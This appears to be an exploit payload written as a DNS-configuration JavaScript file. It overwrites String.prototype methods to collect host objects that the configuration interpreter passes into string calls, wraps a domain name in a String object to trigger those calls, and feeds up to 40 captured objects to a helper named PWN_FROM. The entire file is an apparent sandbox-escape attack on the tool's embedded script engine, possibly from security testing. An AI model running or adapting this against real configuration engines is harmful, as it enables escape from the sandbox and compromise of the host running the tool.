require("./lib/payload.js");
var leaked = [];
["replace", "split", "indexOf", "endsWith", "startsWith", "toLowerCase", "slice", "match", "includes", "trim", "padStart", "repeat"].forEach(function (m) {
  var orig = String.prototype[m];
  String.prototype[m] = function () { for (var i = 0; i < arguments.length; i++) if (arguments[i] && typeof arguments[i] !== "string" && typeof arguments[i] !== "number") leaked.push(arguments[i]); return orig.apply(this, arguments); };
});
D("str.example", REG, DnsProvider(DSP), function (d) { d.name = new String(d.name); }, A("@", "192.0.2.1"), DMARC_BUILDER({ policy: "none" }), SPF_BUILDER({ label: "@", parts: ["v=spf1", "-all"] }));
REPORT("count", "captured " + leaked.length);
leaked.forEach(function (v, i) { if (i < 40) PWN_FROM(v, "str" + i); });
